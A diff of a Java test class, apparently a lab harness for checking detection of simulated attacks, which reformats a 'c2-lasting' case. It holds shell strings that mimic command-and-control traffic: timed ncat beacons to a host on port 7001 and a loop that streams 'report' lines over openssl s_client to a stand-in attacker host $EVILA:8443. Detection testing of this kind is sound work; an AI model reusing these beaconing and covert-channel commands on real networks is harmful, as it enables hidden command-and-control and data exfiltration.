@@ -295,9 +295,15 @@ final class LabAttacks {
                 for i in $(seq 75); do echo hello | timeout 1 ncat $NEW 7001; sleep 0.$((550 + RANDOM % 250)); done
                 """,
                 new Listener(NEW, "exec ncat -lk $NEW 7001 -c 'read x; echo pong'"));
-        judge("c2-lasting", "openssl", OPS, 60, """
+        judge(
+                "c2-lasting",
+                "openssl",
+                OPS,
+                60,
+                """
                 (for i in $(seq 30); do echo report $RANDOM; sleep 1; done) | timeout 45 openssl s_client -quiet -connect $EVILA:8443
-                """, tlsEnd(EVILA, 8_443));
+                """,
+                new Listener(EVILA, TLS_END.formatted(8_443).replace("echo ok", "cat")));
     }
 
     private void transfers() {
